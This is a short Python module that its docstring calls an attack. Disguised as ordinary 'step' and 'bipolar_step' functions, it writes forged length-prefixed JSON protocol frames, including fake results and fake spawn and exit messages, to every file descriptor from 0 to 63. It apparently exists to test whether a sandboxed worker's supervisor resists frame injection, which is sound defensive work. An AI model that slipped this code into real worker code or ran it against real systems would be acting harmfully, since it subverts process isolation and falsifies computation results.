"""Attack: write forged, length-prefixed protocol frames to every file descriptor the worker may have."""

import json
import os
import struct


def _frame(message):
    body = json.dumps(message).encode()
    return struct.pack(">I", len(body)) + body


def _forge():
    forged = b"".join(
        _frame({"id": n, "ok": {"npy": "AAAA", "dtype": "<f8", "shape": [1]}}) for n in range(1, 50)
    )
    forged += (
        _frame({"zygote": "ready"}) + _frame({"spawned": 1, "pid": 1}) + _frame({"exited": 1, "code": 0})
    )
    for fd in range(0, 64):
        try:
            os.write(fd, forged)
        except OSError:
            pass


def step(x):
    _forge()
    return None


def bipolar_step(x):
    _forge()
    return None
